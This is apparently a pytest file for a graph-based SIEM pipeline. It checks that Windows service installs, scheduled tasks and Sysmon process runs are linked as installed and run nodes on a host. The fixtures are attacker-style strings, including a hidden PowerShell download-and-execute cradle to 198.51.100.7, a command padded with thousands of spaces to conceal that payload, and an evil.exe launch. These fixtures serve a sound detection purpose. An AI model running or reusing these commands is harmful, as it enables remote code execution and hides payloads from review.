"""Service installs and scheduled tasks in the graph: ``host INSTALLED process``, keyed as Sysmon 1 keys the run.

Records go through the real pipeline, journal and embedded store
(:class:`tests.ingest.parsers.test_windows_variants.Ingested`).
"""

from __future__ import annotations

import re

import orjson
import pytest

from graphsiem.store.embedded import EmbeddedStore
from ingest.journal import Journal
from ingest.pipeline import ingest_paths
from ingest.projection_endpoint import INSTALLED_NAMES
from tests.ingest.parsers.test_mde_persistence import row
from tests.ingest.parsers.test_windows_persistence import (
    CMD,
    ENCODED,
    POWERSHELL,
    SERVICE_4697,
    SERVICE_7045,
    SERVICE_LINE,
    STAGER,
    TASK_4698,
    TASK_LINE,
)
from tests.ingest.parsers.test_windows_variants import _process, _sysmon, _winlogbeat, ingest_into

HOST = ("host", "ws-0042")
SYSTEM = ("user", "nt authority\\system")

@pytest.fixture
def ingest(tmp_path):
    yield from ingest_into(tmp_path)



def _service_run(record_id: int = 9) -> dict:
    """Sysmon 1 of the service's start: services.exe runs the expanded ImagePath."""
    return _sysmon(1, record_id, ProcessGuid="{5770385f-0000-0000-0000-00000000a001}", ProcessId="5120",
                   Image="C:\\Windows\\System32\\cmd.exe", CommandLine=SERVICE_LINE, User="NT AUTHORITY\\SYSTEM",
                   ParentProcessGuid="{5770385f-0000-0000-0000-000000000270}", ParentProcessId="624",
                   ParentImage="C:\\Windows\\System32\\services.exe",
                   ParentCommandLine="C:\\Windows\\system32\\services.exe")


def test_a_service_install_and_its_run_are_one_process_installed_and_ran_on_the_host(ingest) -> None:
    got = ingest(_winlogbeat(7045, SERVICE_7045, channel="System"), _service_run())
    service = _process(CMD, SERVICE_LINE)
    assert got.edges("INSTALLED") == {(HOST, service)}
    assert (HOST, service) in got.edges("RAN")
    assert (service, SYSTEM) in got.edges("RUN_AS")
    entity = got.entities("process")[service[1]]
    assert entity.props["service"] == "wvbnmkqa" and entity.props["services"] == ["wvbnmkqa"]
    assert entity.props["decoded_command"] == STAGER
    assert [(s.host, s.count) for s in got.store.hosts_of(*service)] == [("ws-0042", 2)]


def test_4697_relates_the_service_account_and_sights_the_installer(ingest) -> None:
    got = ingest(_winlogbeat(4697, SERVICE_4697, channel="Security"))
    psexesvc = _process("C:\\Windows\\PSEXESVC.exe", "C:\\Windows\\PSEXESVC.exe")
    assert got.edges("INSTALLED") == {(HOST, psexesvc)}
    assert got.edges("RUN_AS") == {(psexesvc, SYSTEM)}
    assert [s.host for s in got.store.hosts_of("user", "corp\\adm-jdoe")] == ["ws-0042"]


def test_each_action_of_a_task_is_installed_with_the_task_name(ingest) -> None:
    got = ingest(_winlogbeat(4698, TASK_4698, channel="Security"))
    stager, whoami = _process(POWERSHELL, TASK_LINE), _process(CMD, f"{CMD} /c whoami")
    assert got.edges("INSTALLED") == {(HOST, stager), (HOST, whoami)}
    assert got.edges("RUN_AS") == {(stager, SYSTEM), (whoami, SYSTEM)}
    processes = got.entities("process")
    assert processes[stager[1]].props["task"] == processes[whoami[1]].props["task"] == "\\OneDrive Sync"


def test_the_task_run_seen_by_sysmon_is_the_installed_node(ingest) -> None:
    run = _sysmon(1, 7, ProcessGuid="{5770385f-0000-0000-0000-00000000b001}", ProcessId="6100", Image=POWERSHELL,
                  CommandLine=TASK_LINE, User="NT AUTHORITY\\SYSTEM", ParentImage="C:\\Windows\\System32\\svchost.exe",
                  ParentCommandLine="C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule")
    got = ingest(_winlogbeat(4698, TASK_4698, channel="Security"), run)
    stager = _process(POWERSHELL, TASK_LINE)
    assert (HOST, stager) in got.edges("INSTALLED") and (HOST, stager) in got.edges("RAN")


def test_mde_and_windows_service_installs_of_one_command_are_one_node(ingest) -> None:
    mde = row("ServiceInstalled", {"ServiceName": "wvbnmkqa", "ServiceAccount": "LocalSystem"},
              ProcessCommandLine=SERVICE_7045["ImagePath"])
    mde["DeviceName"] = "ws-0043.corp.contoso.com"
    got = ingest(_winlogbeat(7045, SERVICE_7045, channel="System"), mde)
    service = _process(CMD, SERVICE_LINE)
    assert got.edges("INSTALLED") == {(HOST, service), (("host", "ws-0043"), service)}
    assert sorted(s.host for s in got.store.hosts_of(*service)) == ["ws-0042", "ws-0043"]
    assert ENCODED in got.entities("process")[service[1]].value


# -- review findings: padding, bare names, quoting, names of a fleet-wide command ------------------

PAYLOAD = "& powershell -nop -w hidden -c iex(iwr http://198.51.100.7/a)"
PADDED = "C:\\Windows\\system32\\cmd.exe /c echo ok" + " " * 8200 + PAYLOAD
SVCHOST = "C:\\Windows\\System32\\svchost.exe"
NETSVCS = "%SystemRoot%\\System32\\svchost.exe -k netsvcs -p"
NETSVCS_LINE = "C:\\Windows\\System32\\svchost.exe -k netsvcs -p"


def _run(image: str, command_line: str, record_id: int = 9) -> dict:
    return _sysmon(1, record_id, ProcessGuid=f"{{5770385f-0000-0000-0000-0000000{record_id:05d}}}", ProcessId="5120",
                   Image=image, CommandLine=command_line, User="NT AUTHORITY\\SYSTEM",
                   ParentImage="C:\\Windows\\System32\\services.exe",
                   ParentCommandLine="C:\\Windows\\system32\\services.exe")


def _service(name: str, image_path: str, host: str = "WS-0042", record_id: int = 1) -> dict:
    record = _winlogbeat(7045, {"ServiceName": name, "ImagePath": image_path, "ServiceType": "user mode service",
                                "StartType": "auto start", "AccountName": "LocalSystem"},
                         channel="System", record_id=record_id)
    record["winlog"]["computer_name"] = f"{host}.corp.example.com"
    return record


def test_a_padded_service_command_is_its_run_and_keeps_its_payload(ingest) -> None:
    harmless = "C:\\Windows\\system32\\cmd.exe /c echo ok"
    got = ingest(_service("EvilSvc", PADDED), _run(CMD, PADDED), _run(CMD, harmless, record_id=10))
    service = _process(CMD, PADDED)
    assert got.edges("INSTALLED") == {(HOST, service)}
    assert (HOST, service) in got.edges("RAN")
    processes = got.entities("process")
    assert "iwr http://198.51.100.7/a" in processes[service[1]].props["command_line"]
    # the harmless prefix ran alone is another node, not named as the service
    assert "service" not in processes[_process(CMD, harmless)[1]].props


@pytest.mark.parametrize(("image_path", "image"), [
    ("cmd /c start /b C:\\Users\\Public\\evil.exe -s", "C:\\Windows\\System32\\cmd.exe"),
    ("powershell -nop -w hidden -c iex(iwr http://198.51.100.7/a)", POWERSHELL),
    ("rundll32 C:\\Users\\Public\\x.dll,Start", "C:\\Windows\\System32\\rundll32.exe"),
    # the Service Control Manager starts an ImagePath with CreateProcess, which runs the .exe of a file
    # name without extension, with a folder too: Sysmon 1 names the .exe, the line as written (review R24)
    ("C:\\ProgramData\\x\\svc -k run", "C:\\ProgramData\\x\\svc.exe"),
    ('"C:\\Program Files\\Vendor Tool\\svc" -k run', "C:\\Program Files\\Vendor Tool\\svc.exe"),
    ("C:\\Program Files\\Vendor.Tool\\svc -k run", "C:\\Program Files\\Vendor.Tool\\svc.exe"),
], ids=["cmd", "powershell", "rundll32", "a folder, no extension", "quoted with spaces, no extension",
        "unquoted with spaces, a dot in the folder"])
def test_a_service_command_is_the_node_of_its_run(ingest, image_path: str, image: str) -> None:
    got = ingest(_service("EvilSvc", image_path), _run(image, image_path))
    [(host, installed)] = got.edges("INSTALLED")
    assert installed == _process(image, image_path) and (host, installed) in got.edges("RAN")


def test_a_task_program_without_extension_is_the_node_of_its_exe_run(ingest) -> None:
    actions = "<Actions><Exec><Command>C:\\ProgramData\\x\\upd</Command><Arguments>/q</Arguments></Exec></Actions>"
    content = re.sub(r"<Actions.*</Actions>", lambda _: actions, TASK_4698["TaskContent"], flags=re.DOTALL)
    task = _winlogbeat(4698, TASK_4698 | {"TaskName": "\\Upd", "TaskContent": content}, channel="Security")
    upd = "C:\\ProgramData\\x\\upd.exe"
    got = ingest(task, _run(upd, f"{upd} /q"))
    node = _process(upd, f"{upd} /q")
    assert got.edges("INSTALLED") == {(HOST, node)} and (HOST, node) in got.edges("RAN")


def test_a_task_command_with_a_space_and_no_arguments_is_the_node_of_its_run(ingest) -> None:
    updater = "C:\\Program Files\\Contoso\\updater.exe"
    actions = f"<Actions><Exec><Command>{updater}</Command></Exec></Actions>"
    content = re.sub(r"<Actions.*</Actions>", lambda _: actions, TASK_4698["TaskContent"], flags=re.DOTALL)
    task = _winlogbeat(4698, TASK_4698 | {"TaskName": "\\Contoso\\Update", "TaskContent": content},
                       channel="Security")
    got = ingest(task, _run(updater, f'"{updater}"'))
    node = _process(updater, f'"{updater}"')
    assert (HOST, node) in got.edges("INSTALLED") and (HOST, node) in got.edges("RAN")


def _ingest_calls(tmp_path, calls: list[list[dict]], batch_size: int = 1000) -> EmbeddedStore:
    """Each list of records one ingest call, into one journal and one embedded store."""
    store = EmbeddedStore(tmp_path / "graph")
    with Journal(tmp_path / "journal.sqlite") as journal:
        for number, records in enumerate(calls):
            path = tmp_path / f"call-{number}.json"
            path.write_bytes(b"\n".join(orjson.dumps(record) for record in records) + b"\n")
            ingest_paths([path], store=store, journal=journal, progress=False, batch_size=batch_size)
    return store


FLEET = [_service("EvilSvcDll", NETSVCS, "WS-1", 1)] + [_service("BITS", NETSVCS, f"WS-{n}", n) for n in (2, 3, 4)]


@pytest.mark.parametrize(("calls", "batch_size"), [
    ([FLEET], 1000), ([FLEET], 1), ([FLEET[:1], FLEET[1:]], 1000), ([FLEET[1:], FLEET[:1]], 1000),
], ids=["one batch", "a batch each", "two calls", "two calls, the odd one last"])
def test_every_name_a_shared_command_was_installed_as_stays_on_its_node(tmp_path, calls, batch_size) -> None:
    store = _ingest_calls(tmp_path, calls, batch_size)
    try:
        props = store.get_entity(*_process(SVCHOST, NETSVCS_LINE)).props
        assert props["services"] == ["BITS", "EvilSvcDll"] and props["service"] == "BITS"
        assert "services_dropped" not in props and "tasks" not in props
    finally:
        store.close()


def test_names_past_the_bound_are_counted_not_kept(tmp_path) -> None:
    records = [_service(f"svc{n:02d}", NETSVCS, f"WS-{n}", n) for n in range(INSTALLED_NAMES + 3)]
    store = _ingest_calls(tmp_path, [records[:20], records[20:]])
    try:
        props = store.get_entity(*_process(SVCHOST, NETSVCS_LINE)).props
        assert props["services"] == [f"svc{n:02d}" for n in range(INSTALLED_NAMES)]
        assert props["services_dropped"] == 3
    finally:
        store.close()
